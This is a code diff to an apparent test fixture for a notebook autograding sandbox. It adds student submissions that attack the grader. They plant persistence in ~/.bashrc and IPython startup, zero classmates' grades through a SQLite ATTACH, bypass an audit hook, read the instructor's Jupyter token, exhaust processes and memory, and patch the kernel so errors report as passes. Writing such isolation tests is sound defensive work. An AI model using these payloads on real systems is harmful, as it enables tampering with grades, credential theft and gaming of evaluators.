@@ -383,6 +383,215 @@ def _events_hook(nb):
     ))
 
 
+#: Where the OS-isolation attacks aim (set by the test before ``submit``): the course folder, a TCP
+#: port on 127.0.0.1 that records connections, and an instructor's Jupyter runtime file.
+TARGETS: dict[str, str] = {"course": "/nonexistent", "port": "9", "runtime": "/nonexistent/jpserver-1.json"}
+_WRONG_STAGE = "def first_stage(names):\n    return None"
+
+
+def _startup_persist(nb):
+    """Plant start-up code and config for later kernels: IPython startup, ~/.bashrc, Jupyter config."""
+    return _answer(nb, stage=_WRONG_STAGE, rate=(
+        "import os, pathlib\n"
+        "planted = []\n"
+        "payload = 'rate = 0.3\\ndef first_stage(names):\\n    return None\\n'\n"
+        "home = pathlib.Path(os.path.expanduser('~'))\n"
+        "ipy = pathlib.Path(os.environ.get('IPYTHONDIR', str(home / '.ipython')))\n"
+        "for target in [ipy / 'profile_default/startup/00-evil.py', ipy / 'profile_default/startup/00-evil.ipy',\n"
+        "               home / '.ipython/profile_default/startup/00-evil.py', home / '.bashrc',\n"
+        "               home / '.jupyter/jupyter_config.py', home / '.ipython/profile_default/ipython_config.py',\n"
+        "               pathlib.Path('/tmp/00-evil.py')]:\n"
+        "    try:\n"
+        "        target.parent.mkdir(parents=True, exist_ok=True)\n"
+        "        target.write_text(payload)\n"
+        "        planted.append(str(target))\n"
+        "    except OSError:\n"
+        "        pass\n"
+        "rate = 0.5"
+    ))
+
+
+def _sqlite_attach(nb):
+    """ATTACH the gradebook through IPython's history database and zero a classmate's grade."""
+    return _answer(nb, stage=_WRONG_STAGE, rate=(
+        "import sqlite3\n"
+        f"path = {TARGETS['course']!r} + '/gradebook.db'\n"
+        "done = 'no'\n"
+        "for connect in (lambda: get_ipython().history_manager.db, lambda: sqlite3.connect(':memory:')):\n"
+        "    try:\n"
+        "        db = connect()\n"
+        "        db.execute('ATTACH DATABASE ? AS gb', (path,))\n"
+        "        db.execute('UPDATE gb.grade SET manual_score = 0, auto_score = 0')\n"
+        "        db.commit()\n"
+        "        done = 'yes'\n"
+        "        break\n"
+        "    except Exception as error:\n"
+        "        done = repr(error)\n"
+        "rate = 0.5"
+    ))
+
+
+def _audit_off_write(nb):
+    """Reach libc through a thread pool (past the audit hook), then write a .pth and a classmate's file."""
+    return _answer(nb, stage=_WRONG_STAGE, rate=(
+        "import concurrent.futures, ctypes, os, sysconfig\n"
+        f"course = {TARGETS['course']!r}\n"
+        "targets = [sysconfig.get_paths()['purelib'] + '/zz_evil.pth',\n"
+        "           course + '/submitted/alice/ps1/evil.txt', course + '/submitted/alice/ps1/toy.ipynb']\n"
+        "written = []\n"
+        "with concurrent.futures.ThreadPoolExecutor(1) as pool:\n"
+        "    try:\n"
+        "        libc = pool.submit(ctypes.CDLL, None).result()\n"
+        "    except Exception:\n"
+        "        libc = None\n"
+        "for target in targets:\n"
+        "    try:\n"
+        "        if libc is not None:\n"
+        "            fd = libc.open(target.encode(), os.O_WRONLY | os.O_CREAT | os.O_APPEND, 0o644)\n"
+        "            if fd >= 0:\n"
+        "                libc.write(fd, b'import os\\n', 10)\n"
+        "                written.append(target)\n"
+        "        with open(target, 'a') as handle:\n"
+        "            handle.write('# tampered')\n"
+        "        written.append(target)\n"
+        "    except Exception:\n"
+        "        pass\n"
+        "rate = 0.3 if written else 0.5"
+    ))
+
+
+def _socket_out(nb):
+    """Send data out over a TCP socket to 127.0.0.1 (where a helper could hand back the hidden tests)."""
+    return _answer(nb, stage=_WRONG_STAGE, rate=(
+        "import socket\n"
+        "sent = False\n"
+        "try:\n"
+        f"    with socket.create_connection(('127.0.0.1', {int(TARGETS['port'])}), timeout=2) as conn:\n"
+        "        conn.sendall(b'rate_test please')\n"
+        "        sent = True\n"
+        "except OSError:\n"
+        "    pass\n"
+        "rate = 0.3 if sent else 0.5"
+    ))
+
+
+def _runtime_token(nb):
+    """Read the instructor's Jupyter server token from the runtime folder."""
+    return _answer(nb, stage=_WRONG_STAGE, rate=(
+        "import glob, os\n"
+        f"paths = [{TARGETS['runtime']!r}] + glob.glob('/root/.local/share/jupyter/runtime/*.json')\n"
+        "paths += glob.glob('/home/*/.local/share/jupyter/runtime/*.json')\n"
+        "token = None\n"
+        "for path in paths:\n"
+        "    try:\n"
+        "        token = open(path).read()\n"
+        "        break\n"
+        "    except OSError:\n"
+        "        pass\n"
+        "rate = 0.3 if token else 0.5"
+    ))
+
+
+def _zombies(nb):
+    """Leave hundreds of unreaped children (zombies) behind to exhaust the grading user's processes."""
+    return _answer(nb, stage=_WRONG_STAGE, rate=(
+        "import os\n"
+        "made = 0\n"
+        "for _ in range(300):\n"
+        "    try:\n"
+        "        if os.fork() == 0:\n"
+        "            os._exit(0)\n"
+        "        made += 1\n"
+        "    except OSError:\n"
+        "        break\n"
+        "rate = 0.5"
+    ))
+
+
+def _memory_children(nb):
+    """Three children that each hold most of the per-process memory cap (together far above it)."""
+    return _answer(nb, stage=_WRONG_STAGE, rate=(
+        "import os, time\n"
+        "alive = 0\n"
+        "pids = []\n"
+        "for _ in range(3):\n"
+        "    read, write = os.pipe()\n"
+        "    pid = os.fork()\n"
+        "    if pid == 0:\n"
+        "        try:\n"
+        "            block = bytearray(400 * 1024 ** 2)\n"
+        "            for i in range(0, len(block), 4096):\n"
+        "                block[i] = 1\n"
+        "            os.write(write, b'1')\n"
+        "            time.sleep(3)\n"
+        "        finally:\n"
+        "            os._exit(0)\n"
+        "    pids.append(pid)\n"
+        "    os.close(write)\n"
+        "    alive += len(os.read(read, 1))\n"
+        "    os.close(read)\n"
+        "for pid in pids:\n"
+        "    os.waitpid(pid, 0)\n"
+        "rate = 0.3 if alive == 3 else 0.5"
+    ))
+
+
+def _lying_kernel(nb):
+    """Rewrite the kernel's session.send so that errors are never reported (empty answers "pass")."""
+    return _answer(nb, stage="pass", rate=(
+        "kernel = get_ipython().kernel\n"
+        "real_send = kernel.session.send\n"
+        "def send(stream, msg_or_type, content=None, *args, **kwargs):\n"
+        "    kind = msg_or_type.get('msg_type') if isinstance(msg_or_type, dict) else msg_or_type\n"
+        "    if kind == 'error':\n"
+        "        return None\n"
+        "    if kind == 'execute_reply' and isinstance(content, dict) and content.get('status') == 'error':\n"
+        "        content = {'status': 'ok', 'execution_count': content.get('execution_count'),\n"
+        "                   'user_expressions': {}, 'payload': []}\n"
+        "    return real_send(stream, msg_or_type, content, *args, **kwargs)\n"
+        "kernel.session.send = send"
+    ))
+
+
+def _cells_int(path: Path) -> None:
+    path.write_text('{"cells": 5}', encoding="utf-8")
+
+
+def _deep_nesting(path: Path) -> None:
+    nb = released_template_json()
+    deep = "[" * 100_000 + "]" * 100_000
+    path.write_text(nb.replace('"metadata": {', '"metadata": {"deep": ' + deep + ",", 1), encoding="utf-8")
+
+
+def _huge_output(path: Path) -> None:
+    nb = json.loads(released_template_json())
+    for cell in nb["cells"]:
+        if cell.get("metadata", {}).get("nbgrader", {}).get("grade_id") == "rate_answer":
+            cell["source"] = "rate = 3 / 10"
+            cell["outputs"] = [{"output_type": "stream", "name": "stdout", "text": "x" * (40 * 1024 ** 2)}]
+    path.write_text(json.dumps(nb), encoding="utf-8")
+
+
+_RELEASED: dict[str, str] = {}
+
+
+def released_template_json() -> str:
+    """The released notebook's JSON text (set by ``submit`` before a file-level kind is written)."""
+    return _RELEASED["text"]
+
+
+#: Submission kinds that write the file themselves (malformed notebooks).
+FILE_KINDS: dict[str, Callable[[Path], None]] = {
+    "cells_int": _cells_int,
+    "deep_nesting": _deep_nesting,
+    "huge_output": _huge_output,
+}
+
+#: The OS-isolation attacks (earn 3 points only if the attack works; their own answers are wrong).
+OS_ATTACKS = ("lying_kernel", "startup_persist", "sqlite_attach", "audit_off_write", "socket_out", "runtime_token", "zombies",
+              "memory_children")
+
+
 def _invalid_json(path: Path) -> None:
     path.write_text("{ this is not json", encoding="utf-8")
 
@@ -411,6 +620,14 @@ KINDS: dict[str, Callable[[nbformat.NotebookNode], nbformat.NotebookNode]] = {
     "os_exit": _os_exit,
     "sys_modules": _sys_modules,
     "events_hook": _events_hook,
+    "lying_kernel": _lying_kernel,
+    "startup_persist": _startup_persist,
+    "sqlite_attach": _sqlite_attach,
+    "audit_off_write": _audit_off_write,
+    "socket_out": _socket_out,
+    "runtime_token": _runtime_token,
+    "zombies": _zombies,
+    "memory_children": _memory_children,
 }
 
 #: Autograded points each honest kind earns (out of AUTOGRADED_MAX).
@@ -429,9 +646,13 @@ def submit(course: Path, student: str, kind: str, *, timestamp: str = ON_TIME) -
     elif kind == "missing":
         if path.exists():
             path.unlink()
+    elif kind in FILE_KINDS:
+        _RELEASED["text"] = nbformat.writes(released(course))
+        FILE_KINDS[kind](path)
     else:
         if kind not in KINDS:
-            raise ValueError(f"kind must be one of {sorted(KINDS) + ['invalid', 'missing']}, got {kind!r}")
+            raise ValueError(f"kind must be one of {sorted(KINDS) + sorted(FILE_KINDS) + ['invalid', 'missing']}, "
+                             f"got {kind!r}")
         nbformat.write(KINDS[kind](released(course)), path)
     return path
 
